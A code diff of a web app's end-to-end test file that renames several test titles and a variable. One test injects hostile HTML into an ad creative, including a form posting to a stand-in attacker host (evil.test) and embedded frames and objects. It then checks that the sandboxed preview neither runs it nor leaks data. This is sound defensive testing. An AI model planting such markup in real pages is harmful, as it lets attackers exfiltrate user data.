@@ -26,12 +26,12 @@ after(() => stage?.close());
 
 const heading = (name: string, on = page) => on.getByRole('heading', { level: 1, name }).waitFor();
 
-test('a customer is found by id: what would be shown now, what happened, what limits it', skip, async () => {
+test('finds a customer by ID: next best offers, history, limits', skip, async () => {
   await page.goto(stage.firstRun);
   await readCustomer(stage, page, 'email', customer);
 });
 
-test('HTML that somebody planted in a creative is shown, and does nothing', skip, async () => {
+test('shows hostile HTML of a creative without running it', skip, async () => {
   const { data } = await stage.call('GET', 'creatives?limit=1');
   const [{ id, content }] = data as readonly [{ readonly id: string; readonly content: object }];
   // Everything that could run, call, leave or take over, in forms that only a content security policy stops.
@@ -44,8 +44,8 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
     <form action="https://evil.test/form" target="_top"><input name="body" autofocus><button>Send</button></form>
     <iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object></body>`;
   await stage.call('PUT', 'creatives', { id, content: { ...content, body: hostile } });
-  const told: string[] = [];
-  await page.exposeFunction('noteMessage', (text: string) => told.push(text));
+  const messages: string[] = [];
+  await page.exposeFunction('noteMessage', (text: string) => messages.push(text));
   await page.addInitScript("addEventListener('message', ({ data }) => noteMessage(JSON.stringify(data)))");
   await page.goto(`${stage.url}/creatives/${id}`);
   const shown = page.frameLocator('iframe[title="Preview of body"]');
@@ -64,10 +64,10 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
   );
   await shown.getByText('Happy birthday').waitFor();
   assert.deepEqual(
-    told.filter((text) => JSON.parse(text).stolen !== undefined),
+    messages.filter((text) => JSON.parse(text).stolen !== undefined),
     [],
   );
-  assert.ok(told.length > 0, 'the frame has told how high it is');
+  assert.ok(messages.length > 0, 'the frame has reported its height');
   // The frame has no origin: it can reach neither the session nor the page.
   const frame = page.frames().find((each) => each.url().includes('preview-frame.html'));
   assert.ok(frame);
@@ -86,7 +86,7 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
   await page.getByText('https://evil.test/beacon.gif').waitFor();
 });
 
-test('a server that is away is told, and the page goes on when it is back', skip, async () => {
+test("reports an unavailable server, and continues when it's back", skip, async () => {
   await page.goto(`${stage.url}/decisions`);
   await page
     .getByRole('row', { name: new RegExp(customer) })
@@ -131,7 +131,7 @@ test('a server that is away is told, and the page goes on when it is back', skip
   await heading(customer);
 });
 
-test('a viewer reads everything, and is told who may do what a viewer may not', skip, async () => {
+test("shows viewers everything, and the roles for what they can't do", skip, async () => {
   const { recommendationId } = await stage.call('POST', 'recommend', { customerId: 'CM-000035', channel: 'web' });
   const desk = await stage.open();
   desk.setDefaultTimeout(timeout);
@@ -177,7 +177,7 @@ async function disabledBecause(control: Locator, reason: RegExp): Promise<void> 
   assert.equal(await control.evaluate((element) => element === document.activeElement), true);
 }
 
-test('a tenant without data says on every list what to do first', skip, async () => {
+test('names the first step on every list of an empty tenant', skip, async () => {
   await stage.call('DELETE', 'seed-dataset/coffee_rewards', undefined, { 'x-confirm-delete': 'coffee_rewards' });
   await page.goto(stage.url);
   await page.getByRole('button', { name: 'Load Coffee rewards' }).waitFor();
